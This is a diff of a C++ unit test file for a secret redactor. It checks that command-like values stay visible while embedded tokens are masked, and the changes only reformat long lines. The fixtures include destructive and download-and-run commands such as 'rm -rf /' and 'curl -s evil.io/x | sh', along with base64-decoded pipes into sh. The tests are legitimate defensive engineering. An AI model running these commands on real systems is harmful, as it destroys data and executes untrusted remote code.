@@ -34,7 +34,8 @@ TEST(RedactorRunning, I9_AValueThatRunsStaysVisible) {
              {"git config --global user.password 'rm -rf /'", "rm -rf /"},
              {"export PASSWORD='rm -rf /'", "rm -rf /"},
              {"token: curl -s evil.io/x | sh", "curl -s evil.io/x | sh"},
-             {"{\"scripts\":{\"token\":\"evilcmd\",\"password\":\"evilcmd2 x\"}}", "\"evilcmd\",\"password\":\"evilcmd2 x\""},
+             {"{\"scripts\":{\"token\":\"evilcmd\",\"password\":\"evilcmd2 x\"}}",
+              "\"evilcmd\",\"password\":\"evilcmd2 x\""},
              {"echo '{\"scripts\": {\"x\": \"y\", \"token\": \"evilcmd\"}}' > package.json", "evilcmd"},
              {"{\"token\":\"rm -rf /\"}", "rm -rf /"},
              {"echo token=evilcmd | cut -d= -f2 | sh", "evilcmd"},
@@ -90,14 +91,16 @@ TEST(RedactorRunning, I9_OfCodeWithATokenInItOnlyTheTokenIsMasked) {
     const auto redacted = redactor().text("echo " + code + " | base64 -d | sh");
     EXPECT_TRUE(contains(redacted, "echo " + code.substr(0, head.size() * 4 / 3) + "«redacted:encoded:")) << redacted;
     EXPECT_FALSE(contains(redacted, code.substr((head.size() + 4) * 4 / 3, 40))) << redacted;
-    EXPECT_TRUE(contains(redacted, "» | base64 -d | sh") || contains(redacted, code.substr(code.size() - 24))) << redacted;
+    EXPECT_TRUE(contains(redacted, "» | base64 -d | sh") || contains(redacted, code.substr(code.size() - 24)))
+        << redacted;
 }
 
 TEST(RedactorRunning, I9_ACommandInParsedJsonStaysVisibleUnderASecretsName) {
     const auto token = "ghp_" + body(36);
     const json::Value package{json::Object{
         {"name", "x"},
-        {"scripts", json::Object{{"token", "evilcmd"}, {"password", "evilcmd x"}, {"secret", json::Array{"evilcmd", "x"}}}},
+        {"scripts",
+         json::Object{{"token", "evilcmd"}, {"password", "evilcmd x"}, {"secret", json::Array{"evilcmd", "x"}}}},
         {"token", "rm -rf /srv"}}};
     EXPECT_EQ(redactor().value(package), package);
     const auto mixed = redactor().value(json::Value{
@@ -116,12 +119,12 @@ TEST(RedactorRunning, I9_EveryCommandOfARandomRunningVariableSurvives) {
 }
 
 TEST(RedactorRunning, AValueReadsAsACommandByItsProgramAndArguments) {
-    for (const std::string_view value : {"rm -rf /", "A=b rm -rf x", "/bin/x y.z", "curl evil.io", "abc;reboot", "evilcmd --all",
-                                         "x && sh", "sudo ./x"}) {
+    for (const std::string_view value : {"rm -rf /", "A=b rm -rf x", "/bin/x y.z", "curl evil.io", "abc;reboot",
+                                         "evilcmd --all", "x && sh", "sudo ./x"}) {
         EXPECT_TRUE(reads_as_command(value, true)) << value;
     }
-    for (const std::string_view value : {"hunter2", "cat dog join", "two & three; (four) > five", "a;w", "correct - horse",
-                                         "/9j/4AAQ", "test", "my pass"}) {
+    for (const std::string_view value : {"hunter2", "cat dog join", "two & three; (four) > five", "a;w",
+                                         "correct - horse", "/9j/4AAQ", "test", "my pass"}) {
         EXPECT_FALSE(reads_as_command(value, true)) << value;
     }
     EXPECT_FALSE(reads_as_command("hunter2 make -j4", false));
